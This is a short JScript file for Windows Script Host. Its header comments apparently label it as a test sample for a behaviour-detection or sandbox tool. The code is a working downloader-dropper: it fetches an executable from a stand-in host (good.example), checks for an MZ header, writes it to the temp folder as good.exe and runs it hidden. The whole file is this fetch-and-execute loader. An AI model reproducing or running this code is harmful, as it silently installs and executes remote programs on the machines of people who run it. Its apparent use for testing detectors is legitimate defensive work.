// persona: wsh
// answers: http=success
// reaches: file good.exe
// reaches: process good.exe
// trick: runs what it got only if it is a program: large enough, and beginning with MZ
// names: api ADODB.Stream
var request = new ActiveXObject("MSXML2.XMLHTTP"), stream = new ActiveXObject("ADODB.Stream");
var path = new ActiveXObject("Scripting.FileSystemObject").GetSpecialFolder(2) + "\\good.exe";
request.open("GET", "http://good.example/p.exe", false);
request.send();
if (request.status == 200) {
  stream.Type = 1;
  stream.Open();
  stream.Write(request.ResponseBody);
  stream.Position = 0;
  stream.Type = 2;
  stream.Charset = "437";
  var text = stream.ReadText();
  if (text.length > 1000 && text.slice(0, 2) === "MZ") {
    stream.SaveToFile(path, 2);
    stream.Close();
    new ActiveXObject("WScript.Shell").Run(path, 0, false);
  }
}
